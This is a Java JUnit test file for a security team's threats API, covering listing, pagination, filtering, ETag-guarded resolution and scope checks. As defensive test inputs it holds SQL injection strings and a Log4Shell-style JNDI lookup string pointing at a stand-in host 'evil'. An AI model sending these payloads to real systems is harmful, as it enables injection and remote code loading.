package dev.rampart.adapter.in.apigateway.security;

import static dev.rampart.domain.detection.signal.SignalExamples.ADDRESS;
import static dev.rampart.domain.detection.signal.SignalExamples.NOON;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.rampart.adapter.in.apigateway.submission.Answered;
import dev.rampart.adapter.in.apigateway.submission.Call;
import dev.rampart.domain.detection.finding.FindingRecord;
import dev.rampart.domain.detection.finding.FindingState;
import dev.rampart.domain.detection.finding.Severity;
import dev.rampart.domain.detection.finding.Threat;
import dev.rampart.domain.detection.signal.Subject;
import dev.rampart.domain.detection.signal.SubjectKind;
import dev.rampart.domain.port.out.PortUnavailable;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Threats, as the security team lists, reads and resolves them. */
final class ThreatsTest {
  private static final String THREATS = "/v1/threats";
  private static final String THREAT = "/v1/threats/{id}";
  private static final String RESOLUTION = "/v1/threats/{id}/resolution";
  private static final Subject CLIENT = new Subject(SubjectKind.CLIENT, "app-1");
  private static final String FALSE_POSITIVE =
      "{\"verdict\":\"falsePositive\",\"note\":\"Our own <load> test.\\nAsk Sam.\"}";

  private final TestSecurityApi api = new TestSecurityApi();

  @Test
  void a_list_has_every_threat_once_newest_first_whatever_the_size_of_a_page() {
    FindingRecord first = api.opened(ADDRESS, 0, Severity.MEDIUM);
    FindingRecord second = api.opened(CLIENT, 1, Severity.HIGH);

    JsonNode whole = list().body();
    assertThat(ids(whole)).containsExactly(second.id().text(), first.id().text());
    assertThat(whole.has("nextCursor")).isFalse();
    JsonNode half = api.send("GET", THREATS, query("limit", "1")).body();
    assertThat(ids(half)).containsExactly(second.id().text());
    String cursor = half.path("nextCursor").asText();
    JsonNode rest = api.send("GET", THREATS, query("limit", "1").query("cursor", cursor)).body();
    assertThat(ids(rest)).containsExactly(first.id().text());
    assertThat(rest.has("nextCursor")).isFalse();
  }

  @Test
  void a_cursor_is_good_for_its_filter_alone() {
    var _ = api.opened(ADDRESS, 0, Severity.MEDIUM);
    var _ = api.opened(CLIENT, 1, Severity.MEDIUM);
    String cursor =
        api.send("GET", THREATS, query("limit", "1")).body().path("nextCursor").asText();

    assertThat(api.send("GET", THREATS, query("cursor", cursor).query("state", "open")).problem())
        .isEqualTo("invalid-cursor");
    assertThat(api.send("GET", THREATS, query("cursor", cursor)).status()).isEqualTo(200);
  }

  @Test
  void a_filter_takes_what_it_names() {
    FindingRecord address = api.opened(ADDRESS, 0, Severity.MEDIUM);
    FindingRecord client = api.opened(CLIENT, 1, Severity.HIGH);

    assertThat(filtered("severity", "high")).containsExactly(client.id().text());
    assertThat(filtered("scope", "ip")).containsExactly(address.id().text());
    assertThat(filtered("state", "resolved")).isEmpty();
    assertThat(filtered("detector", "SCHEMA_FUZZ")).hasSize(2);
    assertThat(filtered("detector", "GLOBAL_RATE")).isEmpty();
    JsonNode about =
        api.send("GET", THREATS, query("scope", "ip").query("subject", "203.0.113.7")).body();
    assertThat(ids(about)).containsExactly(address.id().text());
  }

  @Test
  void threats_are_listed_by_when_they_were_opened() {
    FindingRecord first = api.opened(ADDRESS, 0, Severity.MEDIUM);
    FindingRecord second = api.opened(CLIENT, 1, Severity.HIGH);
    String between = "2026-11-24T12:00:01.000Z";

    assertThat(filtered("from", between)).containsExactly(second.id().text());
    assertThat(filtered("to", between)).containsExactly(first.id().text());
    Call none = query("from", between).query("to", between);
    assertThat(api.send("GET", THREATS, none).problem()).isEqualTo("invalid-query");
    Call page = query("limit", "1").query("from", "2026-11-24T12:00:00.000Z");
    String cursor = api.send("GET", THREATS, page).body().path("nextCursor").asText();
    assertThat(api.send("GET", THREATS, query("cursor", cursor)).problem())
        .isEqualTo("invalid-cursor");
  }

  @Test
  void a_filter_that_means_nothing_is_refused() {
    for (String[] wrong :
        new String[][] {
          {"severity", "High"},
          {"detector", "NONE"},
          {"scope", "IP"},
          {"state", "closed"},
          {"subject", "203.0.113.7"},
          {"limit", "0"},
          {"from", "yesterday"},
          {"to", "2026-11-24T12:00:00Z"},
          {"sort", "id"}
        }) {
      assertThat(api.send("GET", THREATS, query(wrong[0], wrong[1])).problem())
          .as(wrong[0])
          .isEqualTo("invalid-query");
    }
    assertThat(
            api.send("GET", THREATS, query("scope", "ip").query("subject", "localhost")).problem())
        .isEqualTo("invalid-query");
  }

  @Test
  void a_threat_tells_how_its_sum_was_made() {
    FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);

    Answered read = read(record);

    JsonNode threat = read.body();
    assertThat(threat.path("id").asText()).isEqualTo(record.id().text());
    assertThat(threat.at("/measure/value").asDouble()).isEqualTo(3.25);
    assertThat(threat.at("/evidence/0/point").asText()).isEqualTo("SCHEMA_VIOLATION");
    assertThat(threat.at("/evidence/0/examples").toString()).contains("s-2", "s-1");
    assertThat(threat.path("response").asText()).isEqualTo("none");
    assertThat(threat.has("resolution")).isFalse();
    assertThat(read.header("ETag")).isEqualTo("\"1\"");
    assertThat(api.send("GET", THREAT, one(record).header("If-None-Match", "\"1\"")).status())
        .isEqualTo(304);
    assertThat(api.send("GET", THREAT, one(record).header("If-None-Match", "\"2\"")).status())
        .isEqualTo(200);
  }

  @Test
  void an_id_that_nothing_has_is_unknown_whatever_it_looks_like() {
    for (String id : List.of("018f4d7e-6c1a-8f3b-9c2d-5a7e1b0c4d6f", "1", "x' OR '1'='1")) {
      Answered answer = api.send("GET", THREAT, Call.of("GET", THREAT).path("id", id));
      assertThat(answer.problem()).isEqualTo("threat-not-found");
    }
    assertThat(api.signals).isEmpty();
  }

  @Test
  void a_verdict_closes_the_threat_and_is_told_without_the_note() {
    FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);

    Answered resolved = resolve(record, "\"1\"", FALSE_POSITIVE);

    assertThat(resolved.status()).isEqualTo(200);
    assertThat(resolved.header("ETag")).isEqualTo("\"2\"");
    assertThat(resolved.body().path("state").asText()).isEqualTo("resolved");
    assertThat(resolved.body().at("/resolution/verdict").asText()).isEqualTo("falsePositive");
    assertThat(resolved.body().at("/resolution/note").asText())
        .isEqualTo("Our own <load> test.\nAsk Sam.");
    assertThat(resolved.body().at("/resolution/judge").asText()).isEqualTo(TestSecurityApi.SAM);
    assertThat(read(record).body()).isEqualTo(resolved.body());
    assertThat(filtered("state", "resolved")).containsExactly(record.id().text());
    assertThat(api.published).hasSize(1);
    assertThat(api.published.getFirst().change()).isEqualTo(Threat.Change.RESOLVED);
    assertThat(api.published.toString()).doesNotContain("load");
    assertThat(api.findings.find(record.id()).orElseThrow().needsPublishing()).isFalse();
  }

  @Test
  void a_verdict_about_a_version_that_was_not_read_is_refused() {
    FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);

    assertThat(resolve(record, "\"2\"", FALSE_POSITIVE).problem()).isEqualTo("threat-changed");
    assertThat(resolve(record, "W/\"1\"", FALSE_POSITIVE).problem()).isEqualTo("threat-changed");
    assertThat(resolve(record, "1", FALSE_POSITIVE).problem()).isEqualTo("invalid-precondition");
    Call without = Call.of("POST", RESOLUTION).path("id", record.id().text()).json(FALSE_POSITIVE);
    assertThat(api.send("POST", RESOLUTION, without).problem()).isEqualTo("precondition-required");
    assertThat(api.findings.find(record.id()).orElseThrow().state()).isEqualTo(FindingState.OPEN);
    assertThat(resolve(record, "*", FALSE_POSITIVE).status()).isEqualTo(200);
    assertThat(resolve(record, "\"1\"", FALSE_POSITIVE).problem()).isEqualTo("threat-changed");
  }

  @Test
  void the_body_is_judged_before_the_tag() {
    FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);

    assertThat(resolve(record, "\"9\"", "{\"verdict\":\"maybe\"}").faults())
        .containsExactly("/verdict unknown-value");
    assertThat(resolve(record, "\"9\"", "{\"verdict\":\"truePositive\",\"judge\":\"x\"}").faults())
        .containsExactly("/judge unknown-member");
    assertThat(
            resolve(record, "\"1\"", "{\"verdict\":\"truePositive\",\"note\":\"' OR 1=1 --\"}")
                .problem())
        .isEqualTo("injection-suspected");
  }

  @Test
  void a_note_may_quote_a_log_and_nobody_is_suspected_for_it() {
    FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);
    String note = "the payload was ${jndi:ldap://evil/a} in the header";

    Answered resolved =
        resolve(record, "\"1\"", "{\"verdict\":\"truePositive\",\"note\":\"" + note + "\"}");

    assertThat(resolved.body().at("/resolution/note").asText()).isEqualTo(note);
    assertThat(api.signals).isEmpty();
  }

  @Test
  void a_verdict_holds_although_the_bus_does_not_answer() {
    TestSecurityApi deaf =
        new TestSecurityApi(
            _ -> {
              throw new PortUnavailable("bus");
            });
    FindingRecord record = deaf.opened(ADDRESS, 0, Severity.MEDIUM);

    Call call =
        Call.of("POST", RESOLUTION)
            .path("id", record.id().text())
            .json(FALSE_POSITIVE)
            .header("If-Match", "\"1\"");
    assertThat(deaf.send("POST", RESOLUTION, call).status()).isEqualTo(200);
    assertThat(deaf.findings.find(record.id()).orElseThrow().needsPublishing()).isTrue();
    assertThat(deaf.findings.due(NOON.plusSeconds(600), 10)).hasSize(1);
  }

  @Test
  void each_operation_has_its_own_scope() {
    FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);

    assertThat(api.sendAs("rampart/threats.write", "GET", THREATS, query("limit", "1")).status())
        .isEqualTo(403);
    assertThat(api.sendAs("rampart/threats.read", "GET", THREATS, query("limit", "1")).status())
        .isEqualTo(200);
    Call verdict =
        Call.of("POST", RESOLUTION)
            .path("id", record.id().text())
            .json(FALSE_POSITIVE)
            .header("If-Match", "*");
    assertThat(api.sendAs("rampart/threats.read", "POST", RESOLUTION, verdict).problem())
        .isEqualTo("insufficient-scope");
  }

  private Answered list() {
    return api.send("GET", THREATS, Call.of("GET", THREATS));
  }

  private List<String> filtered(String name, String value) {
    return ids(api.send("GET", THREATS, query(name, value)).body());
  }

  private Answered read(FindingRecord record) {
    return api.send("GET", THREAT, one(record));
  }

  private Answered resolve(FindingRecord record, String tag, String body) {
    return api.send(
        "POST",
        RESOLUTION,
        Call.of("POST", RESOLUTION)
            .path("id", record.id().text())
            .json(body)
            .header("If-Match", tag));
  }

  private static Call one(FindingRecord record) {
    return Call.of("GET", THREAT).path("id", record.id().text());
  }

  private static Call query(String name, String value) {
    return Call.of("GET", THREATS).query(name, value);
  }

  private static List<String> ids(JsonNode page) {
    return page.path("items").valueStream().map(item -> item.path("id").asText()).toList();
  }
}
